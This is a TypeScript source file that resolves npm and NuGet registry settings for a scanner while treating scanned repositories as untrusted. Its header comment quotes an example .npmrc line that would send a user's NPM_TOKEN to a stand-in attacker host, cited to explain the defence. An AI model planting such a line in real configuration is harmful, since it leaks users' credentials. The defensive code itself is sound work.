/**
 * Where each usage's package comes from, read from the users' own settings: the
 * `.npmrc` nearest the manifest within its repository plus the user's, and every
 * `NuGet.Config` from the repository root down to the project plus the user's.
 * Files are read once each; symlinks are not followed. Scanned repositories are
 * untrusted: their files may choose registries, but environment variables are expanded
 * only in the user's own files, so a repository cannot send the user's secrets
 * (`//evil.example/:_authToken=${NPM_TOKEN}`) anywhere.
 */
import { lstatSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Diagnostic } from '../core/result.js';
import { chooseNpmRegistry, parseNpmrc, type NpmRegistryChoice, type NpmrcSettings } from './npmrc.js';
import { effectiveNuGetSources, parseNuGetConfig, type NuGetConfigFile, type NuGetSource } from './nugetConfig.js';

export interface SettingsContext {
  rootDir: string;
  env: NodeJS.ProcessEnv;
  homeDir: string;
  diagnostics: Diagnostic[];
}

export class RegistrySettings {
  private readonly npmrcs = new Map<string, NpmrcSettings | undefined>();
  private readonly nugetConfigs = new Map<string, NuGetConfigFile | undefined>();

  constructor(private readonly context: SettingsContext) {}

  /** `repoDir`: the repository's folder relative to the scan root; `file`: repo-relative manifest path. */
  npmRegistryFor(packageName: string, repoDir: string, file: string): NpmRegistryChoice {
    const layers: NpmrcSettings[] = [];
    for (const dir of foldersUp(path.posix.dirname(file))) {
      const project = this.npmrc(path.join(this.context.rootDir, repoDir, dir, '.npmrc'), false);
      if (project) {
        layers.push(project);
        break; // npm reads one project config: the one at the project (or workspace) root
      }
    }
    const userFile =
      this.context.env.NPM_CONFIG_USERCONFIG ||
      this.context.env.npm_config_userconfig ||
      path.join(this.context.homeDir, '.npmrc');
    const user = this.npmrc(userFile, true);
    if (user) layers.push(user);
    return chooseNpmRegistry(packageName, layers, this.context.env);
  }

  nugetSourcesFor(repo: string, repoDir: string, file: string): NuGetSource[] {
    const files: NuGetConfigFile[] = [];
    const user = this.nugetConfig(path.join(this.context.homeDir, '.nuget', 'NuGet', 'NuGet.Config'));
    if (user) files.push(user);
    for (const dir of foldersUp(path.posix.dirname(file)).reverse()) {
      const absDir = path.join(this.context.rootDir, repoDir, dir);
      for (const name of configNamesIn(absDir)) {
        const config = this.nugetConfig(path.join(absDir, name), repo, `${dir === '.' ? '' : `${dir}/`}${name}`);
        if (config) files.push(config);
      }
    }
    return effectiveNuGetSources(files);
  }

  private npmrc(absPath: string, own: boolean): NpmrcSettings | undefined {
    if (!this.npmrcs.has(absPath)) {
      const text = readRegularFile(absPath);
      this.npmrcs.set(absPath, text === undefined ? undefined : parseNpmrc(text, own ? this.context.env : {}));
    }
    return this.npmrcs.get(absPath);
  }

  private nugetConfig(absPath: string, repo?: string, file?: string): NuGetConfigFile | undefined {
    if (!this.nugetConfigs.has(absPath)) {
      const text = readRegularFile(absPath);
      let config: NuGetConfigFile | undefined;
      if (text !== undefined) {
        const parsed = parseNuGetConfig(text, repo === undefined ? this.context.env : {});
        if (parsed.ok) config = parsed.config;
        else {
          this.context.diagnostics.push({
            code: 'registry-config-invalid',
            severity: 'warning',
            message: `NuGet.Config is not well-formed XML (${parsed.message}); its package sources are ignored`,
            ...(repo ? { repo, file: file! } : { file: absPath }),
          });
        }
      }
      this.nugetConfigs.set(absPath, config);
    }
    return this.nugetConfigs.get(absPath);
  }
}

/** `a/b` → `a/b`, `a`, `.` (nearest first). */
function foldersUp(dir: string): string[] {
  const folders: string[] = [];
  for (let current = dir; ; current = path.posix.dirname(current)) {
    folders.push(current);
    if (current === '.' || current === '/' || current === '') break;
  }
  return folders;
}

/** NuGet.Config is matched case-insensitively (`nuget.config`, `NuGet.config`…). */
function configNamesIn(absDir: string): string[] {
  try {
    return readdirSync(absDir)
      .filter((n) => n.toLowerCase() === 'nuget.config')
      .sort();
  } catch {
    return [];
  }
}

function readRegularFile(absPath: string): string | undefined {
  try {
    if (!lstatSync(absPath).isFile()) return undefined; // symlinks are never followed
    return readFileSync(absPath, 'utf8');
  } catch {
    return undefined;
  }
}
